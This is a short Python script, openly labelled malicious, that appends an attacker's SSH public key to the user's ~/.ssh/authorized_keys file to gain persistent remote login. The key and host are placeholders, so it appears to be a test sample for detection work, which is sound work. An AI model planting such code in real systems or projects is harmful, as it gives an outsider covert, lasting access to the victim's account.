# Malicious: adds an attacker's SSH key to ~/.ssh/authorized_keys; persistent remote login.
import os

ssh = os.path.expanduser("~/.ssh")
os.makedirs(ssh, exist_ok=True)
with open(os.path.join(ssh, "authorized_keys"), "a") as keys:
    keys.write("ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIB3xExampleKeyOnlyForTests attacker@attacker.example\n")
